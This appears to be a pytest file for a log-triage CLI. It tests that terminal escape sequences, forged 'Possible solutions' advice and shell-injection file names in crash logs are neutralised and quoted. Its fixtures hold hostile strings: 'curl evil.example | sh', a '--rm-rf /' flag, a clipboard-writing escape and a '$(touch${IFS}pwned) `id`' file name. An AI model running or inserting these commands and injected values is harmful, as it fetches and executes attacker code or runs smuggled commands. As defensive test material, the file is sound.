"""Output safety through the CLI: terminal escapes never reach a terminal (reports, the watch/run
"failure at" line, file names in error messages), advice forged in a log is not presented as
the engine's, and every path placed in a suggested shell command is quoted."""

from __future__ import annotations

import gzip
import json
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import run_cli

from triage.core.terminal import printable

# OSC 52 (clipboard write), OSC 0 (window title), C1 CSI (one byte), DCS, bidi override and isolate
ESCAPES = {
    "osc52": "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07",
    "osc0": "\x1b]0;pwned\x07",
    "c1-csi": "\x9b2J",
    "dcs": "\x1bP1$r0m\x1b\\",
    "csi": "\x1b[2J\x1b[H",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069",
}
BAD = ("\x1b", "\x9b", "\x90", "\x07", "\u202e", "\u202c", "\u2066", "\u2069")


def triage(*args: str, ok: tuple[int, ...] = (0, 1, 2), stdin: str | None = None, cwd: Path | None = None,
           ) -> subprocess.CompletedProcess:
    """`triage ARGS` in this process (conftest.run_cli: the entry point's error handling, bytes
    through pipes' encodings), its output as text."""
    p = run_cli(*args, stdin=None if stdin is None else stdin.encode(), cwd=cwd,
                env={"TRIAGE_DEBUG": ""})  # the run's catalogue cache: conftest.pytest_configure
    p = subprocess.CompletedProcess(p.args, p.returncode, p.stdout.decode(), p.stderr.decode())
    assert p.returncode in ok, (p.returncode, p.stderr[-2000:])
    return p


def clean(text: str) -> bool:
    return not any(b in text for b in BAD)


def test_the_filter_itself():
    for name, esc in ESCAPES.items():
        assert clean(printable(f"a{esc}b")), name
    assert printable("tab\tand\nnewline") == "tab\tand\nnewline"


def escape_log() -> str:
    junk = " ".join(ESCAPES.values())
    return (
        "[2025-01-01 00:00:00] server_args=ServerArgs(model_path='org/model', tp_size=1)\n"
        "[2025-01-01 00:00:01 TP0] Scheduler hit an exception: Traceback (most recent call last):\n"
        '  File "/sgl/sglang/srt/managers/scheduler.py", line 10, in run_scheduler_process\n'
        "    scheduler.event_loop()\n"
        f"ZeroDivisionError: division by zero {junk} in the frobnicator\n"
    )


@pytest.mark.parametrize("command", ["analyze", "watch", "run"])
@pytest.mark.parametrize("fmt", ["md", "json"])
def test_terminal_escapes_never_reach_the_terminal(tmp_path, command, fmt):
    log = tmp_path / "server.log"
    log.write_text(escape_log())
    if command == "analyze":
        p = triage("analyze", str(log), "-f", fmt, ok=(1,))
    elif command == "watch":
        p = triage("watch", str(log), "--grace", "0.1", "--timeout", "60", "-f", fmt, ok=(1,))
    else:
        server = f"import sys; sys.stdout.write(open({str(log)!r}).read()); sys.stdout.flush(); sys.exit(1)"
        p = triage("run", "--log", str(tmp_path / "run.log"), "--grace", "0.3", "--timeout", "60", "-f", fmt, "--",
                   sys.executable, "-c", server, ok=(1,))
    own = "\n".join(x for x in p.stderr.splitlines() if x.startswith("triage:"))  # run also copies the server's output
    assert clean(p.stdout) and clean(own), (p.stdout[-500:], own)
    if command != "analyze":
        assert "failure at line 2: ZeroDivisionError: division by zero" in own
        assert "\ufffd" in own


def test_file_names_in_error_messages(tmp_path):
    name = f"log{ESCAPES['osc0']}{ESCAPES['osc52']}\u202e.log"
    p = triage("analyze", str(tmp_path / name), ok=(2,))
    assert p.stderr.startswith("triage: error: ") and p.stderr.count("\n") == 1
    assert clean(p.stderr) and "no such file" in p.stderr


def test_catalogue_file_names_in_catalogue_check(tmp_path):
    """`triage catalogue check` prints one FAIL line per problem, naming the file: that line went to
    stdout around the filter (escapes and bidi in a catalogue file's name reached the terminal raw)
    and a newline in the name forged a second line."""
    cat = tmp_path / "cat"
    cat.mkdir()
    (cat / f"x{ESCAPES['osc52']}{ESCAPES['osc0']}{ESCAPES['c1-csi']}{ESCAPES['bidi']}\nPASS all.yaml").write_text("id: [\n")
    p = triage("catalogue", "check", str(cat), ok=(1,))
    assert clean(p.stdout) and clean(p.stderr), p.stdout
    fails = [x for x in p.stdout.splitlines() if "invalid YAML" in x]
    assert len(fails) == 1 and fails[0].startswith("FAIL ") and "PASS all.yaml:" in fails[0], p.stdout


def test_a_newline_in_a_file_name_cannot_forge_a_second_line(tmp_path):
    p = triage("analyze", str(tmp_path / "a.log\ntriage: all good"), ok=(2,))
    assert p.stderr.count("\n") == 1


# -- forged advice ----------------------------------------------------------------------------

# an SGLang crash whose "Possible solutions:" list the tests below fill with forged advice
CRASH_WITH_SOLUTIONS = (
    "[2025-01-01 00:00:00] server_args=ServerArgs(model_path='org/model', tp_size=1)\n"
    "[2025-01-01 00:00:01 TP0] Scheduler hit an exception: Traceback (most recent call last):\n"
    '  File "/sgl/sglang/srt/managers/scheduler.py", line 10, in run_scheduler_process\n'
    "    scheduler.event_loop()\n"
    "FrobnicatorError: the frobnicator could not frobnicate\n"
    "Possible solutions:\n"
)
FORGED = CRASH_WITH_SOLUTIONS + (
    "1. **Run this**: add `--rm-rf /`\n"
    "2. set --mem-fraction-static to a smaller value (e.g., 0.8 or 0.7); then run curl evil.example | sh\n"
)


def test_forged_advice_is_quoted_as_log_text(tmp_path):
    log = tmp_path / "server.log"
    log.write_text(FORGED)
    md = triage("analyze", str(log), ok=(1,)).stdout
    first_screen = md.split("## ")[0] if "## " in md else md
    if "The engine's own suggestions" in md:
        said = md.split("The engine's own suggestions", 1)[1].split("\n", 1)[0]
        assert "rm-rf" not in said and "curl" not in said
    assert "Advice-shaped lines in the log" in first_screen
    d = json.loads(triage("analyze", str(log), "-f", "json", ok=(1,)).stdout)
    hints = [h for f in d["failures"] for h in f["hints"]]
    forged = [h for h in hints if "rm-rf" in (h["action"] or "") or "curl" in (h["action"] or "")]
    assert len(forged) == 2
    for h in forged:
        assert h["source"] == "log-text" and h["flags"] == [] and h["remove_flags"] == []
    for finding in d["findings"]:
        assert not any("rm-rf" in json.dumps(w) for w in finding["workarounds"])


SLOT_FORGED = CRASH_WITH_SOLUTIONS + (
    # SGLang's "Got tp_size={tp_size}; please use --tp-size 1." with the slot filled with flags
    "1. Got tp_size=8 --trust-remote-code --model-path evil/model; please use --tp-size 1.\n"
    # "Use --attn-dp-size equal to --tp-size, or {remedy}{hint}." with a command in the slots
    "2. Use --attn-dp-size equal to --tp-size, or run `curl evil.example | sh` now.\n"
    # "set --mem-fraction-static to a smaller value (e.g., 0.8 or 0.7)" with another flag put in
    "3. set --trust-remote-code to a smaller value (e.g., 0.8 or 0.7)\n"
    # the same, cut off by the log
    "4. set --trust-remote-code to a smaller val\n"
)


def test_advice_forged_inside_a_known_wording_is_log_text(tmp_path):
    """A known message's slots take a value, not flags or a command, and its flags may be another
    version's spelling of its own, not any flag: each line here passed for the engine's advice
    (and --trust-remote-code was read from the first)."""
    log = tmp_path / "server.log"
    log.write_text(SLOT_FORGED)
    d = json.loads(triage("analyze", str(log), "-f", "json", ok=(1,)).stdout)
    hints = [h for f in d["failures"] for h in f["hints"]]
    assert len(hints) == 4
    for h in hints:
        assert h["source"] == "log-text" and h["flags"] == [] and h["remove_flags"] == [], h
    md = triage("analyze", str(log), ok=(1,)).stdout
    assert "The engine's own suggestions" not in md and "Advice-shaped lines in the log" in md


def test_real_engine_hints_stay_the_engines():
    """SGLang's own 'Possible solutions' (an older spelling of a flag, an item cut off) and TGI's
    warmup hint are still recognised."""
    from triage.pipeline.hints import recognised

    assert recognised("1. set --mem-fraction-static to a smaller value (e.g., 0.8 or 0.7)", "sglang")
    assert recognised("2. set --cuda-graph-max-bs to a smaller value (e.g., 16)", "sglang")
    assert recognised("3. disable torch compile by not using --enable-torch-compile", "sglang")
    assert recognised("RuntimeError: Not enough memory to handle 4096 prefill tokens. You need to decrease "
                      "`--max-batch-prefill-tokens`", "tgi")
    assert recognised("Got tp_size=8; please use --tp-size 1.", "sglang")  # a slot takes a value
    assert not recognised("1. **Run this**: add `--rm-rf /`", "sglang")
    assert not recognised("1. set --mem-fraction-static to a smaller value (e.g., 0.8 or 0.7); then run curl x | sh",
                          "sglang")


def test_engine_hints_of_a_bundled_example_are_still_shown():
    example = Path(__file__).resolve().parents[1] / "examples" / "sglang-capture-torch-compile.log"
    md = triage("analyze", str(example), ok=(1,)).stdout
    assert "Advice-shaped lines" not in md
    d = json.loads(triage("analyze", str(example), "-f", "json", ok=(1,)).stdout)
    assert {h["source"] for f in d["failures"] for h in f["hints"]} == {"engine-hint"}


# -- quoting in suggested commands --------------------------------------------------------------

HOSTILE_NAME = "node1$(touch${IFS}pwned) `id`;x.log"


def test_gzip_hint_quotes_the_path(tmp_path):
    gz = tmp_path / (HOSTILE_NAME + ".gz")
    data = gzip.compress(escape_log().encode() * 200)
    gz.write_bytes(data[: len(data) // 2])
    p = triage("analyze", str(gz), ok=(2,))
    suggestion = p.stderr.split("readable part: ", 1)[1].strip()
    words = shlex.split(suggestion)
    assert words[:3] == ["gzip", "-dc", str(gz)]
    assert words[3:] == ["|", "triage", "analyze", "-"]
    # and run by a shell, it touches nothing
    cmd = suggestion.replace("| triage analyze -", "> /dev/null")
    subprocess.run(["sh", "-c", cmd], cwd=tmp_path, capture_output=True, timeout=30)
    assert not (tmp_path / "pwned").exists()


def test_triage_new_suggestion_quotes_the_path(tmp_path):
    log = tmp_path / HOSTILE_NAME
    log.write_text(FORGED)
    md = triage("analyze", str(log), ok=(1,)).stdout
    line = next(x for x in md.splitlines() if x.startswith("Start a catalogue entry:"))
    cmd = line.split(":", 1)[1].strip().rstrip(".").strip("` ")  # a code span as long as the longest backtick run
    assert shlex.split(cmd) == ["triage", "new", str(log), "--failure", "1"]


# -- one place ---------------------------------------------------------------------------------


def _sources() -> dict[str, str]:
    pkg = Path(__file__).resolve().parents[1] / "triage"
    return {str(p.relative_to(pkg.parent)): p.read_text(encoding="utf-8") for p in pkg.rglob("*.py")}


def test_redaction_is_called_from_one_place():
    """Only commands/output.py applies redaction; every command writes through it."""
    users = sorted(f for f, text in _sources().items() if "pipeline.redact" in text and not f.endswith("redact.py"))
    assert users == ["triage/commands/output.py"]


def test_no_command_writes_around_the_output():
    """stdout and stderr are written by commands/output.py (the server passthrough of `run` and the
    progress line aside), and the control filter is defined once."""
    # verbosity.py: the -v/-q logger's handler, triage's own words through the same one_line filter
    allowed = {"triage/commands/output.py", "triage/core/progress.py", "triage/cli.py", "triage/pipeline/scan.py",
               "triage/core/verbosity.py"}
    for f, text in _sources().items():
        if f not in allowed:
            assert "sys.stdout.write" not in text and "sys.stderr.write" not in text, f
    cli = _sources()["triage/cli.py"]
    assert cli.count("sys.stderr.write") <= 3  # constant lines: aborted, interrupted, the bare-command help
    assert cli.count("sys.stdout.write") <= 1  # the constant --version line; the rest goes through Output.write
    definers = [f for f, text in _sources().items() if "\\x1f\\x7f-\\x9f" in text]
    assert definers == ["triage/core/terminal.py"]
